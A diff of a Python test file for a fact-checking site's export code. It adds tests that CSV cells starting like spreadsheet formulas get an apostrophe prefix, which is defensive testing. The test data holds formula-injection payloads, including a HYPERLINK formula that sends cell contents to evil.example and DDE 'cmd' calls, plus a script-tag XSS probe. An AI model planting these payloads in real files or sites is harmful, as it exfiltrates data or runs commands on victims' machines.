@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import csv
+import dataclasses
 import io
 import json
 import re
@@ -22,7 +23,7 @@ from factdesk.model import Claim, Publication, Settings
 from .conftest import MINI, REPO, copy_project
 
 SITE = SiteAddress("https://factcheck.example.org/")
-TRICKY = 'She said "it\'s <b>done</b> & dusted", then\n</script><script>alert(1)</script>\r\n— naïve, 日本; ok'
+TRICKY = 'She said "it\'s <b>done</b> & dusted", then\n</script><script>alert(1)</script>\n— naïve, 日本; ok'
 
 
 @pytest.fixture(scope="module")
@@ -112,14 +113,11 @@ def test_feed_keeps_markup_in_text_as_text(tricky: Publication) -> None:
     assert "&lt;/script&gt;&lt;script&gt;" in entry.content[0].value
 
 
-def test_feed_drops_characters_xml_cannot_carry(tmp_path: Path) -> None:
-    project = copy_project(tmp_path / "p", MINI)
-    path = project / "claims" / "budget-doubled.yml"
-    path.write_text(path.read_text(encoding="utf-8").replace(
-        "claim: The bridge budget *doubled* since <b>1992</b> | twice.", 'claim: "bell\\x07 here\\x0b end"'),
-        encoding="utf-8")
-    publication = load_publication(project)
-    assert any(c.claim == "bell\x07 here\x0b end" for c in publication.claims)
+def test_feed_drops_characters_xml_cannot_carry() -> None:
+    # The checks refuse control characters in claim files; the feed must not break if one got by.
+    mini = load_publication(MINI)
+    first = dataclasses.replace(mini.claims[0], claim="bell\x07 here\x0b end")
+    publication = dataclasses.replace(mini, claims=(first, *mini.claims[1:]))
     assert any(e.title.endswith(": bell here end") for e in parse_feed(publication).entries)
 
 
@@ -192,3 +190,41 @@ def test_export_files_and_data_feed(publication: Publication) -> None:
     reviews = feed["dataFeedElement"]
     assert [r["@type"] for r in reviews] == ["ClaimReview"] * len(publication.claims)
     assert [r["url"] for r in reviews] == [claim_url(c) for c in publication.claims]
+
+
+# CSV formula injection (OWASP): a cell a spreadsheet would run starts with an apostrophe --------
+
+FORMULAS = ["=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
+            "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1", "-tag"]
+
+
+@pytest.fixture
+def formulas(tmp_path: Path) -> Publication:
+    project = copy_project(tmp_path / "p", MINI)
+    path = project / "claims" / "budget-doubled.yml"
+    data = yaml.safe_load(path.read_text(encoding="utf-8"))
+    data.update(claim=FORMULAS[0], summary=FORMULAS[1], claimant=FORMULAS[2], author=FORMULAS[3],
+                claim_reviewed=FORMULAS[4], tags=[FORMULAS[5], "fine"])
+    path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")
+    return load_publication(project)
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_start_with_an_apostrophe(formulas: Publication) -> None:
+    row = {r["slug"]: r for r in read_csv(formulas)}["budget-doubled"]
+    cells = [row["claim"], row["summary"], row["claimant"], row["author"], row["claim_reviewed"], row["tags"]]
+    assert cells == ["'" + FORMULAS[0], "'" + FORMULAS[1], "'" + FORMULAS[2], "'" + FORMULAS[3], "'" + FORMULAS[4],
+                     "'" + FORMULAS[5] + "; fine"]
+    for r in read_csv(formulas):
+        for value in r.values():
+            assert not value.startswith(exports.FORMULA_STARTS), value
+
+
+def test_csv_escapes_only_what_starts_like_a_formula(formulas: Publication) -> None:
+    assert exports._inert_cell("-2") == "-2" and exports._inert_cell("-0.5") == "-0.5"  # a rating stays a number
+    assert exports._inert_cell("a=b") == "a=b" and exports._inert_cell("O'Brien") == "O'Brien"
+    assert exports._inert_cell("-") == "'-" and exports._inert_cell("-1e5") == "'-1e5"
+    # The loader refuses control characters in a claim; the CSV would not need it to.
+    assert exports._inert_cell("\t=1+1") == "'\t=1+1" and exports._inert_cell("\r=1+1") == "'\r=1+1"
+    # The other exports keep the text exactly.
+    record = next(c for c in json.loads(exports.claims_json(formulas, SITE))["claims"] if c["slug"] == "budget-doubled")
+    assert record["claim"] == FORMULAS[0]
